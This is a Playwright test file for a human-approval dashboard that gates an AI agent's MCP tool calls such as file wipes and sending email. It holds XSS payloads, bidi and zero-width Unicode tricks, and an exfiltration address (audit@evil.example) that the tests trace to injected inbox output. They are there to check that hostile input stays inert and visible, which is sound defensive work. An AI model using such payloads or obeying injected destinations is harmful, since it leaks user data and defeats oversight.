// What has to hold on the page. Each scene has a gateway, and mostly a browser, of its own.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { EVIL_REASON, policy, until } from "./gateway.mjs";
import { EVIL_TOOL } from "./server.mjs";

export default function scenes({ Gateway, bouncer, scratch, into, browse, card, button, assert }) {
  let count = 0;
  const gateway = (text = policy(), options = {}) => new Gateway(bouncer, path.join(scratch, `gateway-${++count}`), text, options);
  const origin = async (of) => new URL(await of.page()).origin;
  const shot = (page, name, options = {}) => page.screenshot({ timeout: 60000, path: path.join(into, `${name}.png`), ...options });
  const outcome = (page, id) => card(page, id).locator(".outcome");

  return {
    async "approving once, for the conversation, and taking back"() {
      const at = await gateway().start();
      const browser = await browse();
      const page = await browser.open(at);
      const raw = { path: "/tmp/report.txt", note: "line one\nline two", big: "@big" };
      assert.ok((await page.locator(".empty").innerText()).includes("Nothing waits"));
      const asked = await at.call("wipe", raw);
      assert.ok(!asked.ok && asked.id, asked.said);
      await card(page, asked.id).waitFor();
      assert.match(await page.title(), /^\(1\)/);
      const text = await card(page, asked.id).innerText();
      for (const part of ["srv › wipe", "deleting is for good", "policy.yaml:9:", "12345678901234567890123", "/tmp/report.txt", "lapses in 23 h"]) assert.ok(text.includes(part), `${part} in ${text}`);
      assert.equal(at.forwarded("wipe"), 0);
      await button(page, asked.id, "once").click();
      await outcome(page, asked.id).waitFor();
      assert.equal(await outcome(page, asked.id).innerText(), "Approved, here");
      const through = await at.call("wipe", raw);
      assert.ok(through.ok, through.said);
      const again = await at.call("wipe", raw);
      assert.ok(!again.ok && again.id && again.id !== asked.id, again.said);
      assert.equal(at.forwarded("wipe"), 1);

      await button(page, again.id, "conversation").click();
      await outcome(page, again.id).waitFor();
      assert.equal(await outcome(page, again.id).innerText(), "Approved for the conversation, here");
      for (let n = 0; n < 3; n++) assert.ok((await at.call("wipe", raw)).ok);
      const other = await at.call("wipe", { ...raw, path: "/tmp/other" });
      assert.ok(!other.ok && other.id, "other arguments are another call");
      assert.equal(at.forwarded("wipe"), 4);
      const rested = at.audit().filter((line) => line.outcome === "forwarded" && line.approval === again.id);
      assert.equal(rested.length, 3, "each use is in the log");
      await page.locator("li", { hasText: "for the conversation, used 3 times" }).getByRole("button", { name: "Take back" }).click();
      await until(async () => !(await at.call("wipe", raw)).ok, "it was taken back");
      assert.equal(at.forwarded("wipe"), at.audit().filter((line) => line.tool === "wipe" && line.outcome === "forwarded").length);

      await button(page, other.id, "deny").click();
      await outcome(page, other.id).waitFor();
      const no = await at.call("wipe", { ...raw, path: "/tmp/other" });
      assert.ok(!no.ok && no.said.includes("a human has denied it"), no.said);
      assert.equal(await page.evaluate(() => location.href), `${await origin(at)}/#approvals`, "the token is out of the address");
      browser.clean([await origin(at)]);
      assert.deepEqual(at.strays, [], "standard output is the protocol's");
      await browser.context.close();
    },

    async "a destination, and where it comes from"() {
      const at = await gateway().start();
      const browser = await browse();
      const page = await browser.open(at);
      await at.call("read_inbox", {});
      const mail = { to: "audit@evil.example", body: "the report" };
      const asked = await at.call("send_email", mail);
      assert.ok(asked.id, asked.said);
      await card(page, asked.id).waitFor();
      const text = await card(page, asked.id).innerText();
      for (const part of ["audit@evil.example", "stood in the output of read_inbox", "result 1", "Approve once", "Approve whatever is sent there"]) assert.ok(text.includes(part), `${part} in ${text}`);
      const listed = at.human("list");
      assert.ok(listed.stdout.includes('in the output of "read_inbox" of server "srv"'), listed.stdout);
      await card(page, asked.id).screenshot({ path: path.join(into, "card.png") });
      await button(page, asked.id, "conversation").click();
      await outcome(page, asked.id).waitFor();
      assert.equal(await outcome(page, asked.id).innerText(), "Approved for the conversation, here");
      assert.ok((await at.call("send_email", mail)).ok);
      assert.ok((await at.call("send_email", { ...mail, body: "more" })).ok, "until the conversation ends");
      // What stands around the value is shown, and is as inert as the value itself.
      const place = await at.call("send_email", { to: "the old mill <img src=x onerror=pwn(1)>", body: "x" });
      await card(page, place.id).locator("blockquote").waitFor();
      const excerpt = await card(page, place.id).locator("blockquote").innerText();
      assert.ok(excerpt.includes("leave the copy at the old mill <img src=x onerror=pwn(1)>"), excerpt);
      assert.equal(await page.locator("main img").count(), 0);
      assert.equal(await page.evaluate(() => window.pwned), 0);
      await shot(page, "provenance", { fullPage: true });
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "two humans at once"() {
      const at = await gateway().start();
      const browser = await browse();
      const [one, two] = [await browser.open(at), await browser.open(at)];
      const first = await at.call("wipe", { path: "/1" });
      await Promise.all([card(one, first.id).waitFor(), card(two, first.id).waitFor()]);
      const decided = at.human("approve", first.id);
      assert.equal(decided.status, 0, decided.stderr);
      for (const page of [one, two]) {
        await outcome(page, first.id).waitFor();
        assert.equal(await outcome(page, first.id).innerText(), "Approved, elsewhere");
        assert.equal(await button(page, first.id, "once").count(), 0);
      }
      assert.ok((await at.call("wipe", { path: "/1" })).ok);
      for (let round = 0; round < 5; round++) {
        const asked = await at.call("wipe", { path: `/both/${round}` });
        const buttons = [button(one, asked.id, "once"), button(two, asked.id, "once")];
        for (const each of buttons) await until(() => each.isEnabled(), "the button is not armed");
        await Promise.all(buttons.map((each) => each.evaluate((node) => node.click())));
        const said = [];
        for (const page of [one, two]) {
          await outcome(page, asked.id).waitFor();
          said.push(await outcome(page, asked.id).innerText());
        }
        assert.deepEqual(said.sort(), ["Approved, elsewhere", "Approved, here"]);
        const calls = await Promise.all([1, 2, 3].map(() => at.call("wipe", { path: `/both/${round}` })));
        assert.equal(calls.filter((call) => call.ok).length, 1, "one approval is one call");
      }
      assert.equal(at.forwarded("wipe"), 6);
      browser.clean([await origin(at)], ["409 (Conflict)"]);
      await browser.context.close();
    },

    async "a call that lapses"() {
      const at = await gateway(policy({ seconds: 3 })).start();
      const browser = await browse();
      const page = await browser.open(at);
      const asked = await at.call("wipe", { path: "/late" });
      await card(page, asked.id).waitFor();
      await until(() => button(page, asked.id, "once").isEnabled(), "the button is not armed");
      await outcome(page, asked.id).waitFor();
      assert.match(await outcome(page, asked.id).innerText(), /^Expired/);
      assert.equal(await button(page, asked.id, "once").count(), 0);
      // As if the click had been under way.
      const late = await page.evaluate(async (id) => {
        const { post } = await import("/api.js");
        return post("/api/approvals", { id, choice: "once" }).then(() => "approved", (error) => error.message);
      }, asked.id);
      assert.equal(late, `request \`${asked.id}\` is expired already`);
      const again = await at.call("wipe", { path: "/late" });
      assert.ok(!again.ok && again.id !== asked.id);
      assert.equal(at.forwarded("wipe"), 0);
      browser.clean([await origin(at)], ["409 (Conflict)"]);
      await browser.context.close();
    },

    async "hostile text is inert and visible"() {
      const at = await gateway().start();
      const browser = await browse();
      const page = await browser.open(at);
      const args = { a: '</pre><script>window.pwned=1</script><img src=x onerror=window.pwned=1> \u202egnp.exe\u202c zero\u200bwidth p\u0430ypal', b: "x".repeat(200000), "\"><svg onload=alert(1)>": [1e400 > 0 ? "deep" : "", { "__proto__": { n: 1.5 } }] };
      const asked = await at.call(EVIL_TOOL, args);
      assert.ok(asked.id, asked.said);
      await card(page, asked.id).waitFor();
      const text = await card(page, asked.id).innerText();
      for (const part of [EVIL_TOOL, "<b onclick=alert(1)>bold</b>", "<script>window.pwned=1</script>", "\\u{202e}", "\\u{200b}", "U+0430", "Look twice"]) assert.ok(text.includes(part), `${part} in ${text.slice(0, 2000)}`);
      assert.ok(!/[\u202e\u200b]/.test(text), "what reorders or hides is not in the page");
      assert.ok(EVIL_REASON.includes("\u202e"));
      for (const view of ["approvals", "log", "servers", "policy"]) {
        await page.evaluate((to) => (location.hash = to), view);
        await page.locator("h1").waitFor();
        if (view === "log") {
          await page.locator("details.line").first().waitFor();
          for (const line of await page.locator("details.line").all()) await line.locator("summary").click();
        }
        if (view === "servers") await page.getByText("iframe").or(page.locator("details summary").first()).first().waitFor();
        if (view === "policy") await page.locator(".listing").waitFor();
        assert.equal(await page.locator("main :is(script, img, iframe, svg, b, style, object, embed, link)").count(), 0, view);
        assert.equal(await page.evaluate(() => window.pwned), 0, view);
        assert.ok(!(await page.locator("main").innerText()).includes("[object "), `${view} shows what it should not`);
        const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
        assert.ok(wide <= 0, `${view} is ${wide} px too wide`);
      }
      await page.evaluate(() => (location.hash = "approvals"));
      await card(page, asked.id).waitFor();
      await shot(page, "hostile", { fullPage: true });
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "keys alone"() {
      const at = await gateway().start();
      const browser = await browse();
      const page = await browser.open(at);
      const first = await at.call("wipe", { path: "/first" });
      const second = await at.call("wipe", { path: "/second" });
      await card(page, second.id).waitFor();
      await until(() => button(page, second.id, "once").isEnabled(), "the button is not armed");
      const focused = () => page.evaluate(() => document.activeElement.id || document.activeElement.dataset.choice || document.activeElement.tagName);
      await page.keyboard.press("j");
      assert.equal(await focused(), `card-${first.id}`);
      await page.keyboard.press("j");
      assert.equal(await focused(), `card-${second.id}`);
      await page.keyboard.press("k");
      await page.keyboard.press("a");
      assert.equal(await focused(), "once");
      const ring = await page.evaluate(() => getComputedStyle(document.activeElement).outlineStyle);
      assert.equal(ring, "solid", "the focus shows");
      await shot(page, "focus");
      // No letter approves anything.
      assert.ok(!(await at.call("wipe", { path: "/first" })).ok);
      await page.keyboard.press("Enter");
      await outcome(page, first.id).waitFor();
      assert.equal(await focused(), `card-${second.id}`, "on to the next");
      await page.keyboard.press("d");
      await page.keyboard.press("Enter");
      await outcome(page, second.id).waitFor();
      assert.ok((await at.call("wipe", { path: "/first" })).ok);
      // By Tab alone, from the top.
      const third = await at.call("wipe", { path: "/third" });
      await card(page, third.id).waitFor();
      await until(() => button(page, third.id, "once").isEnabled(), "the button is not armed");
      await page.evaluate(() => document.activeElement.blur());
      let reached = false;
      for (let n = 0; n < 40 && !reached; n++) {
        await page.keyboard.press("Tab");
        reached = await page.evaluate((id) => document.activeElement.closest("article")?.id === id && document.activeElement.dataset.choice === "once", `card-${third.id}`);
      }
      assert.ok(reached, "Tab reaches the button");
      await page.keyboard.press("Space");
      await outcome(page, third.id).waitFor();
      assert.ok((await at.call("wipe", { path: "/third" })).ok);
      for (const [key, title] of [["2", "Log"], ["3", "Servers and tools"], ["4", "Policy"], ["1", "Approvals"]]) {
        await page.keyboard.press(key);
        await page.getByRole("heading", { level: 1, name: title }).waitFor();
      }
      await page.keyboard.press("?");
      await page.getByRole("dialog").waitFor();
      await page.keyboard.press("Escape");
      await page.keyboard.press("/");
      await page.waitForFunction(() => document.activeElement.name === "text");
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "the log, the servers and the policy"() {
      const findings = '  - { tool: srv__wipe, action: deny, reason: never reached }\n';
      const at = await gateway(policy({ more: findings })).start();
      const browser = await browse();
      await at.call("read_inbox", {});
      for (let n = 0; n < 60; n++) await at.call("read_inbox", { n });
      await at.call("wipe", { path: "/needle" });
      await at.call("send_email", { to: "audit@evil.example", body: "x" });
      const page = await browser.open(at, "#log");
      const lines = page.locator("details.line");
      await page.waitForFunction(() => document.querySelectorAll("details.line").length === 50);
      await page.getByText("were as they were written").waitFor();
      await page.getByRole("button", { name: "Older lines" }).click();
      await page.waitForFunction(() => document.querySelectorAll("details.line").length === 63);
      await page.getByLabel("Text").fill("needle");
      await page.keyboard.press("Enter");
      await page.waitForFunction(() => document.querySelectorAll("details.line").length === 1);
      await lines.first().locator("summary").click();
      // What an opened line holds is made by its `toggle` event, which comes after the click.
      await lines.first().getByText('"path": "/needle"').waitFor();
      await page.getByRole("button", { name: "Reset" }).click();
      await page.waitForFunction(() => document.querySelectorAll("details.line").length === 50);
      await page.getByLabel("Verdict").selectOption("ask");
      await page.waitForFunction(() => document.querySelectorAll("details.line").length === 2);
      await lines.first().locator("summary").click();
      await page.getByText("stood in the output of").waitFor();
      await shot(page, "log", { fullPage: true });

      await page.evaluate(() => (location.hash = "servers"));
      const row = page.locator("tr", { has: page.getByText("wipe", { exact: true }) });
      await row.waitFor();
      await row.locator(".pin-pinned").waitFor();
      assert.ok((await row.innerText()).includes("none"));
      writeFileSync(at.changed, "");
      await row.locator(".pin-changed").waitFor();
      assert.ok(!(await at.call("wipe", { path: "/x" })).id, "a changed tool is not asked about");
      await shot(page, "servers", { fullPage: true });

      await page.evaluate(() => (location.hash = "policy"));
      await page.locator(".finding").first().waitFor({ timeout: 15000 });
      const marked = page.locator(".row.error").first();
      assert.ok((await marked.innerText()).includes("srv__wipe"));
      await marked.locator("button.chip").click();
      assert.ok((await page.evaluate(() => document.activeElement.id)).startsWith("finding-"));
      await shot(page, "policy", { fullPage: true });
      at.write(policy());
      await page.waitForFunction(() => document.querySelector(".listing") && !document.querySelector(".listing").innerText.includes("never reached"), undefined, { timeout: 15000 });
      await page.waitForFunction(() => !document.querySelector(".row.error"), undefined, { timeout: 15000 });
      at.write("version: 1\nruls: []\n");
      await page.locator("#observes").getByText("not the one in force").waitFor({ timeout: 15000 });
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "no token, and a gateway that ends"() {
      const at = await gateway().start();
      const browser = await browse();
      const here = await origin(at);
      const bare = await browser.context.newPage();
      await bare.goto(`${here}/`);
      await bare.getByText("no valid token").waitFor();
      assert.equal(await bare.locator("article").count(), 0);
      await bare.goto(`${here}/#token=${"0".repeat(64)}`);
      await bare.reload();
      await bare.getByText("no valid token").waitFor();
      const page = await browser.open(at);
      const asked = await at.call("wipe", { path: "/x" });
      await card(page, asked.id).waitFor();
      await page.reload();
      await card(page, asked.id).waitFor();
      assert.ok(!at.errors.includes("token="), "the token is not on standard error");
      await at.stop();
      await page.getByText("does not answer").waitFor();
      browser.clean([here], ["401 (Unauthorized)", "ERR_CONNECTION_REFUSED", "ERR_CONNECTION_RESET", "ERR_EMPTY_RESPONSE"]);
      await browser.context.close();
    },

    async "beside agents over HTTP"() {
      const at = gateway(policy(), { listen: true });
      const browser = await browse();
      const page = await browser.open(at, "#servers");
      await page.getByText("No conversation is open").waitFor();
      const endpoint = await until(() => /listening at (\S+)/.test(at.errors), () => at.errors).then(() => /listening at (\S+)/.exec(at.errors)[1]);
      const headers = { "content-type": "application/json", accept: "application/json, text/event-stream" };
      const say = async (body) => {
        const reply = await fetch(endpoint, { method: "POST", headers, body: JSON.stringify({ jsonrpc: "2.0", ...body }) });
        headers["mcp-session-id"] ??= reply.headers.get("mcp-session-id");
        return reply.text();
      };
      await say({ id: 1, method: "initialize", params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "a", version: "1" } } });
      await say({ method: "notifications/initialized" });
      await page.locator("tr", { hasText: "read_inbox" }).waitFor();
      const said = await say({ id: 2, method: "tools/call", params: { name: "srv__wipe", arguments: { path: "/http" } } });
      const id = /request (req_\w+)/.exec(said)[1];
      await page.evaluate(() => (location.hash = "approvals"));
      await button(page, id, "conversation").click();
      await outcome(page, id).waitFor();
      for (let n = 3; n < 5; n++) assert.ok(!(await say({ id: n, method: "tools/call", params: { name: "srv__wipe", arguments: { path: "/http" } } })).includes("isError\":true"));
      assert.equal(at.forwarded("wipe"), 2);
      // With the conversation ends what was approved for it.
      await fetch(endpoint, { method: "DELETE", headers });
      await until(() => at.human("list", "--status", "expired").stdout.includes(id), () => at.human("list").stdout);
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "a policy that is only observed says so"() {
      const at = await gateway(policy(), { observe: true }).start();
      const browser = await browse();
      const page = await browser.open(at);
      await page.getByText("Nothing is blocked").waitFor();
      assert.ok((await at.call("wipe", { path: "/x" })).ok);
      assert.equal(at.audit().at(-1).outcome, "observed");
      assert.ok(at.errors.includes("NOTHING IS BLOCKED"));
      browser.clean([await origin(at)]);
      await browser.context.close();
    },

    async "light, dark, and on a phone"() {
      const at = await gateway().start();
      await at.call("read_inbox", {});
      const mail = await at.call("send_email", { to: "audit@evil.example", body: "Quarterly report attached.\n\nBest,\nAnna" });
      const wipe = await at.call("wipe", { path: "/home/me/project/build/old", note: "free some space" });
      const used = await at.call("wipe", { path: "/tmp/cache" });
      at.human("approve", used.id, "--for-conversation");
      await at.call("wipe", { path: "/tmp/cache" });
      for (const [name, options] of [
        ["light", { colorScheme: "light" }],
        ["dark", { colorScheme: "dark" }],
        ["phone", { colorScheme: "light", viewport: { width: 390, height: 844 }, hasTouch: true, isMobile: true, deviceScaleFactor: 2 }],
      ]) {
        const browser = await browse(options);
        const page = await browser.open(at);
        await card(page, mail.id).waitFor();
        await until(() => button(page, wipe.id, "once").isEnabled(), "the button is not armed");
        await shot(page, name, { fullPage: true });
        for (const view of ["log", "servers", "policy"]) {
          await page.evaluate((to) => (location.hash = to), view);
          await page.locator({ log: "details.line", servers: "tbody tr", policy: ".listing" }[view]).first().waitFor();
          if (view === "policy") await page.getByText("Being verified").waitFor({ state: "detached", timeout: 15000 });
          const wide = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
          assert.ok(wide <= 0, `${view} on ${name} is ${wide} px too wide`);
          if (name !== "light") await shot(page, `${name}-${view}`, { fullPage: true });
        }
        const contrast = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
        assert.equal(contrast === "rgb(17, 22, 27)", name === "dark");
        browser.clean([await origin(at)]);
        await browser.context.close();
      }
    },
  };
}
